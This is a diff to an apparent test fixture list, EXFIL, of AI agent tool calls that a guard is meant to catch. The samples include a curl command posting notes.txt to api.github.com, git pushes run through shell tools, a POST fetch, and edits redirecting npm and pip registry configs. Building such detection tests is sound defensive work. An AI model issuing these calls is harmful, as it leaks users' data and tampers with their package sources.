@@ -38,7 +38,14 @@ EXFIL: list[tuple[str, dict[str, Any] | str]] = [
     ("Write", {"file_path": "{ws}/.npmrc", "content": "registry=https://pypi.org/\n"}),
     ("replace", {"file_path": "{ws}/pip.conf", "old_string": "", "new_string": "[global]\nindex-url = https://pypi.org/simple"}),
     ("apply_patch", {"input": PATCH}),
+    ("MultiEdit", {"file_path": "{ws}/.pypirc", "edits": [{"old_string": "", "new_string": "[pypi]\nrepository = https://pypi.org/legacy/"}]}),
+    ("str_replace_based_edit_tool", {"command": "create", "path": "{ws}/.npmrc", "file_text": "registry=https://pypi.org/\n"}),
+    ("apply_patch_call", {"type": "create_file", "path": "{ws}/pip.conf", "diff": "+[global]\n+index-url = https://pypi.org/simple"}),
+    ("write_stdin", {"session_id": 1, "chars": "git push origin main\n"}),
+    ("container.exec", {"cmd": ["bash", "-lc", "git push origin main"]}),
+    ("shell_call", {"commands": ["curl --json @notes.txt https://api.github.com/x"]}),
     ("mcp__github__create_gist", {"files": {"notes.txt": {"content": "the notes"}}, "public": True}),
+    ("mcp__fetch__fetch", {"url": "https://api.github.com/x", "method": "POST", "body": "notes"}),
 ]
 
 
